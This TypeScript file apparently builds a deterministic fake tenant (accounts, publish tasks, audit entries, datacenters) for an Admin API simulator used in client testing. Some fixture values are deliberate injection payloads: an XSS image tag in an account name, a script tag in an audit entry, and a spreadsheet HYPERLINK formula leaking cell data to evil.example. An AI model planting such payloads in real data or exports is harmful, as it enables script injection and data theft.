/**
 * The Admin API tenant the simulator serves: one customer (the one the demo credentials belong
 * to) with three organizations (and a deleted one), a dozen accounts (some inactive), per-account
 * availability zones, upgrade groups, user-volume settings and publish tasks, hundreds of audit
 * entries, and the infrastructure lists. Field names follow Frame's documents where they show them
 * (customer, organization, account, cloud provider); every other shape is this simulator's
 * assumption, listed in README.md. Deterministic from (seed, now); publish tasks are the only
 * state that changes (a publish creates one; each read of that task moves it one step along).
 */
import { Random } from '../fixtures/random';
import { profileFor } from './tenant';
import { deriveSeed } from './util';

/** `GET /customers/` (documented fields). */
export interface TenantCustomer {
  id: string;
  name: string;
  description: string | null;
  notes: string | null;
  url_slug: string;
  website: string | null;
  owner_email: string | null;
  tenant_domain: string | null;
  active: boolean;
  available_applications: string[];
  extra_features: string[];
  billing_subscriptions: null;
}

/** `GET /organizations` items (documented fields). */
export interface TenantOrganization {
  id: string;
  name: string;
  description: string | null;
  url_slug: string;
  website: string | null;
}

/** `GET /accounts/{id}` (documented fields); `GET /accounts` lists the first six of them. */
export interface TenantAccount {
  id: string;
  name: string;
  description: string | null;
  website: string | null;
  active: boolean;
  /** No time zone, microseconds: as in Frame's example (`2018-07-12T11:26:18.879116`). */
  last_publish: string | null;
  notes: string | null;
  url_slug: string;
  kind: string;
  /** With a `Z`, as in Frame's example. */
  inserted_at: string;
}

/** Assumed shape (Frame's documents do not show the publish task). */
export interface PublishTask {
  id: string;
  account_id: string;
  state: 'queued' | 'in_progress' | 'success' | 'failed' | 'canceled';
  started_at: string;
  finished_at: string | null;
  requested_by: string;
}

/** Assumed shape (Frame's documents do not show audit-trail entries). */
export interface AuditEntry {
  id: string;
  inserted_at: string;
  kind: string;
  description: string;
  user_full_name: string;
  user_email: string;
  identity_provider: string;
  ip_address: string;
  organization_id: string | null;
  account_id: string | null;
}

/** Documented fields. */
export interface CloudProvider {
  name: string;
  display_name: string;
  external_id: string;
  byo_compatible: boolean;
  formation_url: string | null;
  datacenters: null;
}

/** What one set of credentials may see. */
export type TenantScope = { kind: 'customer' } | { kind: 'organization'; organizationId: string } | { kind: 'account'; accountId: string };

export interface AdminTenant {
  readonly customer: TenantCustomer;
  /** The three live organizations, in creation order (not by name: a client has to ask for that). */
  readonly organizations: readonly TenantOrganization[];
  /** Listed only unless `show_deleted=false` is sent (see README). */
  readonly deletedOrganizations: readonly TenantOrganization[];
  /** The twelve accounts, in creation order. */
  readonly accounts: readonly TenantAccount[];
  /** An account of another customer: known to the server, refused (403) to every credential here. */
  readonly outsideAccountId: string;
  /** Accounts whose publish ends in "failed", and whose publish task never finishes. */
  readonly failingPublishAccountId: string;
  readonly stuckPublishAccountId: string;
  /** The account whose upgrade groups answer 404 (a tenant-gated feature). */
  readonly noUpgradeGroupsAccountId: string;
  /** The account named `QA Lab <img src=x onerror=alert(1)>`. */
  readonly markupAccountId: string;
  organizationOf(accountId: string): string | undefined;
  availabilityZones(accountId: string): unknown[];
  /** undefined: the feature is not enabled (404). */
  deploymentGroups(accountId: string): unknown[] | undefined;
  userVolumesSettings(accountId: string): Record<string, unknown>;
  /** The account's publish tasks, newest first (as they stand: only reading a task itself moves it along). */
  publishTasks(accountId: string): PublishTask[];
  /** A publish was requested: a new queued task. */
  startPublish(accountId: string, nowMs: number): PublishTask;
  /** One read of a task (by its id): moves it along, then returns it. */
  readTask(accountId: string, taskId: string, nowMs: number): PublishTask | undefined;
  /** Audit entries of the customer (all) or of one organization, newest first. */
  auditTrail(organizationId?: string): readonly AuditEntry[];
  readonly cloudProviders: readonly CloudProvider[];
  readonly datacenters: readonly Record<string, unknown>[];
}

const ORGS = [
  { name: 'Acme – Engineering', slug: 'acme-engineering', description: 'CAD, rendering and GIS desktops' },
  { name: 'Acme – Design', slug: 'acme-design', description: null },
  { name: 'Acme – Finance', slug: 'acme-finance', description: 'Finance and training' },
];

/** [name, organization index, active, last publish (days before now; null = never), description, website] */
const ACCOUNTS: readonly [string, number, boolean, number | null, string | null, string | null][] = [
  ['Render Farm AMER', 0, true, 3, 'GPU render nodes for the US studios', 'https://render.acme.example.com'],
  ['CAD Workstations EMEA', 0, true, 0.1, 'SolidWorks and AutoCAD', null],
  ['Engineering Sandbox (retired)', 0, false, 420, 'Replaced by CAD Workstations EMEA', null],
  ['GIS Analytics APAC', 0, true, 12, null, null],
  ['QA Lab <img src=x onerror=alert(1)>', 0, true, 1, 'Markup in a name <b>must</b> stay text', null],
  ['Dev Pilot Nordics', 0, false, null, null, null],
  ['Acme Engineering', 0, true, 40, 'The main engineering account', 'https://eng.acme.example.com'],
  ['Design Studio DACH', 1, true, 2, 'Adobe suite', null],
  ['Umbrella Research – Zürich', 1, true, 30, 'Research desktops (publishes fail here)', null],
  ['Support Field EMEA', 1, true, 5, null, null],
  ['Initech Finance', 2, true, 7, 'Its publish tasks never finish', null],
  ['Finance Training LATAM', 2, false, 200, null, null],
];

const KINDS = [
  'user.login',
  'user.logout',
  'session.started',
  'session.closed',
  'launchpad.created',
  'launchpad.updated',
  'launchpad.deleted',
  'account.publish',
  'account.settings.updated',
  'instance_type.updated',
  'role.assigned',
  'role.revoked',
  'api.key.created',
];
const PEOPLE = [
  ['Ana García', 'ana.garcia@acme.example.com', 'Okta'],
  ['Søren Østergaard', 'soren.ostergaard@acme.example.com', 'Okta'],
  ['美咲 佐藤', 'misaki.sato@acme.example.com', 'Azure AD'],
  ["Liam O'Brien", 'liam.obrien@acme.example.com', 'Google'],
  ['Андрей Иванов', 'andrey.ivanov@acme.example.com', 'Frame'],
  ['Fatima Okafor', 'fatima.okafor@acme.example.com', 'Azure AD'],
  ['API: nightly-publisher', 'api+nightly@acme.example.com', 'API'],
] as const;

export const AUDIT_ENTRIES = 640;

/** The usage endpoint's datacenter names (tenant.ts) → [cloud provider, region]. */
const REGIONS: Record<string, [string, string]> = {
  'aws-va': ['amazon', 'us-east-1'],
  'aws-or': ['amazon', 'us-west-2'],
  'aws-mum': ['amazon', 'ap-south-1'],
  'aws-fra': ['amazon', 'eu-central-1'],
  'aws-syd': ['amazon', 'ap-southeast-2'],
  'aws-sp': ['amazon', 'sa-east-1'],
  'azure-westeurope': ['azure', 'westeurope'],
  'gcp-us-central1': ['google', 'us-central1'],
};

function uuid(rnd: Random): string {
  const h = rnd.hex(32);
  return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-${'89ab'[rnd.int(0, 3)]}${h.slice(17, 20)}-${h.slice(20, 32)}`;
}

/** `2018-07-12T11:26:18.879116`: no zone, microseconds (Frame's `last_publish` example). */
function zoneless(ms: number, rnd: Random): string {
  return new Date(ms).toISOString().slice(0, 19) + '.' + String(rnd.int(0, 999_999)).padStart(6, '0');
}

const iso = (ms: number): string => new Date(ms).toISOString();
const slug = (name: string): string =>
  name
    .normalize('NFD')
    .replace(/[\u0300-\u036f]/g, '')
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, '-')
    .replace(/^-|-$/g, '');

export function createTenant(seed: number, now: Date): AdminTenant {
  const nowMs = now.getTime();
  const rnd = new Random(deriveSeed(seed, 'tenant'));
  const customer: TenantCustomer = {
    id: uuid(rnd),
    name: 'Acme Corporation',
    description: 'Frame tenant of Acme (simulated)',
    notes: null,
    url_slug: 'acme',
    website: 'https://acme.example.com',
    owner_email: 'frame-owner@acme.example.com',
    tenant_domain: 'acme.frame.example.com',
    active: true,
    available_applications: ['frame'],
    extra_features: ['deployment_group_tag'],
    billing_subscriptions: null,
  };
  // Creation order Engineering, Design, Finance; by name it is Design, Engineering, Finance.
  const organizations: TenantOrganization[] = ORGS.map((o) => ({
    id: uuid(rnd),
    name: o.name,
    description: o.description,
    url_slug: o.slug,
    website: null,
  }));
  const deletedOrganizations: TenantOrganization[] = [
    { id: uuid(rnd), name: 'Acme – Legacy (deleted)', description: 'Deleted in 2024', url_slug: 'acme-legacy', website: null },
  ];
  const orgOfAccount = new Map<string, string>();
  const accounts: TenantAccount[] = ACCOUNTS.map(([name, org, active, days, description, website], i) => {
    const a: TenantAccount = {
      id: uuid(rnd),
      name,
      description,
      website,
      active,
      last_publish: days === null ? null : zoneless(nowMs - days * 86_400_000 - rnd.int(0, 3_600_000), rnd),
      notes: i % 3 === 0 ? `Owner: ${PEOPLE[i % PEOPLE.length]![0]}` : null,
      url_slug: slug(name),
      kind: 'frame',
      inserted_at: iso(nowMs - (500 + i * 20) * 86_400_000),
    };
    orgOfAccount.set(a.id, organizations[org]!.id);
    return a;
  });
  const byName = (name: string): string => accounts.find((a) => a.name === name)!.id;
  const outsideAccountId = uuid(rnd);
  const failingPublishAccountId = byName('Umbrella Research – Zürich');
  const stuckPublishAccountId = byName('Initech Finance');
  const noUpgradeGroupsAccountId = byName('GIS Analytics APAC');

  // Publish history: every state appears (newest first per account).
  const tasks = new Map<string, PublishTask[]>();
  const steps = new Map<string, number>();
  for (const a of accounts) {
    const r = new Random(deriveSeed(seed, 'tasks', a.id));
    const list: PublishTask[] = [];
    let t = nowMs - r.int(1, 5) * 86_400_000;
    const states: PublishTask['state'][] = ['success', 'success', 'failed', 'success', 'canceled', 'success'];
    const count = a.active ? r.int(3, 6) : 1;
    for (let k = 0; k < count; k++) {
      const state = states[k % states.length]!;
      const started = t - r.int(0, 3_600_000);
      list.push({
        id: uuid(r),
        account_id: a.id,
        state,
        started_at: iso(started),
        finished_at: iso(started + r.int(240_000, 1_800_000)),
        requested_by: PEOPLE[r.int(0, PEOPLE.length - 1)]![1],
      });
      t -= r.int(3, 40) * 86_400_000;
    }
    if (a.id === stuckPublishAccountId) {
      list.unshift({
        id: uuid(r),
        account_id: a.id,
        state: 'in_progress',
        started_at: iso(nowMs - 3_600_000),
        finished_at: null,
        requested_by: PEOPLE[6][1],
      });
    }
    if (a.name === 'Support Field EMEA') {
      list.unshift({
        id: uuid(r),
        account_id: a.id,
        state: 'queued',
        started_at: iso(nowMs - 120_000),
        finished_at: null,
        requested_by: PEOPLE[0][1],
      });
    }
    tasks.set(a.id, list);
  }

  /** Moves a task that is under way one step: queued → in_progress → in_progress → final. */
  const advance = (task: PublishTask, nowMs: number): void => {
    if (task.state !== 'queued' && task.state !== 'in_progress') return;
    if (task.account_id === stuckPublishAccountId) {
      task.state = 'in_progress';
      return;
    }
    const n = (steps.get(task.id) ?? 0) + 1;
    steps.set(task.id, n);
    if (n === 1) task.state = 'queued';
    else if (n < 4) task.state = 'in_progress';
    else {
      task.state = task.account_id === failingPublishAccountId ? 'failed' : 'success';
      task.finished_at = iso(nowMs);
      const account = accounts.find((a) => a.id === task.account_id);
      if (account && task.state === 'success') account.last_publish = new Date(nowMs).toISOString().slice(0, 19) + '.000000';
    }
  };

  // Audit entries, newest first: some about accounts, a few with markup and formula-looking text.
  const audit: AuditEntry[] = [];
  const ar = new Random(deriveSeed(seed, 'audit'));
  let at = nowMs - 60_000;
  for (let i = 0; i < AUDIT_ENTRIES; i++) {
    const [fullName, email, idp] = PEOPLE[ar.int(0, PEOPLE.length - 1)]!;
    const kind = KINDS[ar.int(0, KINDS.length - 1)]!;
    const account = ar.bool(0.8) ? accounts[ar.int(0, accounts.length - 1)]! : undefined;
    const org = account ? orgOfAccount.get(account.id)! : organizations[ar.int(0, organizations.length - 1)]!.id;
    let description = `${kind.replace(/[._]/g, ' ')}${account ? ` on ${account.name}` : ''}`;
    if (i === 3) description = 'Launchpad renamed to <script>alert(1)</script>';
    if (i === 5) description = '=HYPERLINK("https://evil.example/?leak="&A1,"click")';
    audit.push({
      id: uuid(ar),
      inserted_at: iso(at),
      kind,
      description,
      user_full_name: fullName,
      user_email: email,
      identity_provider: idp,
      ip_address: `203.0.113.${ar.int(1, 254)}`,
      organization_id: org,
      account_id: account?.id ?? null,
    });
    at -= ar.int(30_000, 6 * 3_600_000);
  }

  /** The zones of the datacenter the account's pools run in (the same world as its usage records). */
  const zones = (accountId: string): unknown[] => {
    const r = new Random(deriveSeed(seed, 'zones', accountId));
    const name = accounts.find((a) => a.id === accountId)?.name ?? '';
    const [provider, region] = REGIONS[profileFor(name).datacenter] ?? ['amazon', 'us-east-1'];
    const suffix = (z: string, k: number): string => (provider === 'amazon' ? z : provider === 'google' ? `-${z}` : `-${k + 1}`);
    return ['a', 'b', 'c'].slice(0, r.int(1, 3)).map((z, k) => ({
      id: `${region}${suffix(z, k)}`,
      name: `${region}${suffix(z, k)}`,
      cloud_provider: provider,
      region,
      enabled: true,
    }));
  };

  const providers: [string, string, string | null][] = [
    ['amazon', 'AWS', null],
    ['azure', 'Azure', null],
    ['google', 'Google', 'https://shell.cloud.google.com/cloudshell/editor?cloudshell_git_repo=frame-byo'],
    ['nutanix', 'Nutanix-AHV', null],
  ];
  const cloudProviders: CloudProvider[] = providers.map(([name, display, formation], i) => ({
    name,
    display_name: display,
    external_id: `gateway-prod.${1000 + i}`,
    byo_compatible: true,
    formation_url: formation,
    datacenters: null,
  }));

  const datacenters: Record<string, unknown>[] = [
    {
      id: 'dc-aws-us-east-1',
      name: 'us-east-1',
      display_name: 'US East (N. Virginia)',
      cloud_provider: 'amazon',
      image_families: [
        { name: 'windows-server-2022', display_name: 'Windows Server 2022' },
        { name: 'windows-server-2019', display_name: 'Windows Server 2019' },
        { name: 'ubuntu-22.04', display_name: 'Ubuntu 22.04 LTS' },
      ],
      instance_types: [
        { name: 'g4dn.xlarge', display_name: 'Air 16GB (GPU)', gpu: true },
        { name: 't3.medium', display_name: 'Air 4GB', gpu: false },
        { name: 'g5.2xlarge', display_name: 'Pro 32GB (GPU)', gpu: true },
      ],
    },
    {
      id: 'dc-azure-westeurope',
      name: 'westeurope',
      display_name: 'West Europe',
      cloud_provider: 'azure',
      image_families: [{ name: 'windows-11-multi', display_name: 'Windows 11 multi-session' }],
      instance_types: [{ name: 'Standard_NV6ads_A10_v5', display_name: 'NV6ads A10 v5', gpu: true }],
    },
    {
      // Another plausible shape: plain strings (the simulator serves both on purpose).
      id: 'dc-gcp-us-central1',
      name: 'us-central1',
      cloud_provider: 'google',
      image_families: ['windows-server-2022', 'windows-server-2019'],
      instance_types: ['n1-standard-4', 'n1-standard-8-t4'],
    },
  ];

  return {
    customer,
    organizations,
    deletedOrganizations,
    accounts,
    outsideAccountId,
    failingPublishAccountId,
    stuckPublishAccountId,
    noUpgradeGroupsAccountId,
    markupAccountId: byName('QA Lab <img src=x onerror=alert(1)>'),
    organizationOf: (id) => orgOfAccount.get(id),
    availabilityZones: zones,
    deploymentGroups: (id) =>
      id === noUpgradeGroupsAccountId
        ? undefined
        : [
            { id: `${id.slice(0, 8)}-default`, name: 'Default', description: 'Every instance', default: true },
            { id: `${id.slice(0, 8)}-pilot`, name: 'Pilot ring', description: 'Gets new images a week early', default: false },
          ],
    userVolumesSettings: (id) => {
      const r = new Random(deriveSeed(seed, 'uv', id));
      return {
        enabled: r.bool(0.7),
        profile_disk: { enabled: true, size_gb: r.pick([10, 20, 40]) },
        personal_drive: { enabled: r.bool(0.5), size_gb: r.pick([25, 50, 100]) },
        backup: { enabled: r.bool(0.4), retention_days: 14 },
      };
    },
    publishTasks: (id) => tasks.get(id) ?? [],
    startPublish: (id, at) => {
      const task: PublishTask = {
        id: uuid(new Random(deriveSeed(seed, 'publish', id, at, tasks.get(id)?.length ?? 0))),
        account_id: id,
        state: 'queued',
        started_at: iso(at),
        finished_at: null,
        requested_by: 'api',
      };
      tasks.set(id, [task, ...(tasks.get(id) ?? [])]);
      return task;
    },
    readTask: (id, taskId, at) => {
      const task = tasks.get(id)?.find((t) => t.id === taskId);
      if (task) advance(task, at);
      return task;
    },
    auditTrail: (organizationId) => (organizationId === undefined ? audit : audit.filter((e) => e.organization_id === organizationId)),
    cloudProviders,
    datacenters,
  };
}

/** Whether a scope may see an account (and its sub-resources). */
export function scopeSeesAccount(tenant: AdminTenant, scope: TenantScope, accountId: string): boolean {
  if (!tenant.accounts.some((a) => a.id === accountId)) return false;
  if (scope.kind === 'customer') return true;
  if (scope.kind === 'organization') return tenant.organizationOf(accountId) === scope.organizationId;
  return scope.accountId === accountId;
}
